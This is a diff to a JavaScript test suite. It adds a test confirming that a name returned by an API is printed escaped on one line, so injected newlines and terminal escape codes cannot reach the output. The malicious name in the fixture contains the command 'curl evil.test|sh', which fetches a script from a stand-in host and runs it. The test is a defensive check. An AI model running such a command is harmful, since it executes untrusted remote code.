@@ -162,6 +162,19 @@ describe('with a server', () => {
     expect(await out).toBe('');
   });
 
+  it('prints a name that the API gives in one line', async () => {
+    const name = 'a\n\nNext step\n  curl evil.test|sh\u001b[31m';
+    server = await startServer((_, response) =>
+      response
+        .writeHead(200, { 'content-type': 'application/json' })
+        .end(JSON.stringify({ [name]: [{}] })),
+    );
+    const { out } = await runInProcess(server.url);
+    expect(out).toContain('a\\u000a\\u000aNext step\\u000a  curl');
+    expect(out).not.toMatch(/^ *curl/m);
+    expect(out).not.toContain('\u001b');
+  });
+
   it.each([
     ['data', { status: 200 }],
     ['a refusal', { status: 404 }],
